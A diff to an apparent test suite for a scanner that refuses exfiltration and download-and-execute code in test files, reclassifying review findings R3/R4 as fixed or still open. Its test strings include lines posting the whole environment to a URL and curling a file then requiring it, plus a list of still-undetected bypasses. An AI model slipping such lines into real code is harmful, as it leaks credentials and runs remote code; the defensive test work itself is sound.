@@ -24,6 +24,8 @@ const ACCEPTED: Array<[string, string]> = [
   ['lib/binding.js', "process.dlopen(module, require.resolve('./build/Release/x.node'));"],
   ['tests/test_env.py', "with open('env.log', 'w') as f:\n    f.write(str(dict(os.environ)))"],
   ['tests/test_env.py', 'print(json.dumps(dict(os.environ)))'],
+  ['tests/test_env.py', "mod = importlib.import_module('tests.helpers')"],
+  ['tests/test_env.py', "requests.post(url, headers={'X': os.environ.get('TOKEN')})"],
   ['tests/test_env.py', "logger.info('env: %s', json.dumps(dict(os.environ), indent=2))"],
   ['app/mail.py', "smtp.send_message(msg)  # os.environ['SMTP_HOST']"],
   ['src/log.ts', "logger.request('boot', { env: process.env.NODE_ENV });"],
@@ -87,21 +89,30 @@ const BYPASSES: Array<[string, string]> = [
   ['tests/x.test.js', "await fetch(u, { method: 'POST', body: JSON.stringify({ ...process.env }) });"],
 
 ];
-const BYPASSES_OPEN: Array<[string, string]> = [
+/** Review findings R3 (`__import__` of a download) and R4 (a copy of the environment sent), fixed. */
+const BYPASSES_FIXED: Array<[string, string]> = [
   ['tests/test_x.py', "p = urlretrieve(u)[0]\n__import__(p)"],
+  ['tests/test_x.py', "requests.post(u, json=os.environ.copy())"],
+  ['tests/test_x.py', "requests.post(u, json=dict(os.environ.items()))"],
+];
+
+describe('review 64 findings R3/R4: variants refused since the fix', () => {
+  it.each(BYPASSES_FIXED)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+});
+
+const BYPASSES_OPEN: Array<[string, string]> = [
   ['tests/x.test.js', "const p = await download(u);\nrequire(p);"],
   ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst r = module.createRequire(import.meta.url);\nr('/tmp/m.js');"],
   ['tests/test_x.py', "data = json.dumps(dict(os.environ))\nrequests.post(u, data=data)"],
   ['tests/x.test.js', "const body = JSON.stringify(process.env);\nawait fetch(u, { method: 'POST', body });"],
-  ['tests/test_x.py', "requests.post(u, json=os.environ.copy())"],
-  ['tests/test_x.py', "requests.post(u, json=dict(os.environ.items()))"],];
+];
 
 describe('review 64: variants of the refused forms', () => {
   it.each(BYPASSES)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
 });
 
-// Review findings R3 (a download imported by `__import__`, required in Node, or through `module.createRequire`) and R4
-// (the whole environment handed to the sending call through a variable, or as `os.environ.copy()`/`.items()`): open.
+// Review findings R3 (a download required in Node, or through `module.createRequire`) and R4 (the whole environment
+// handed to the sending call through a variable): open.
 describe('review 64 findings R3/R4: variants still accepted (open)', () => {
   it.fails.each(BYPASSES_OPEN)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
 });
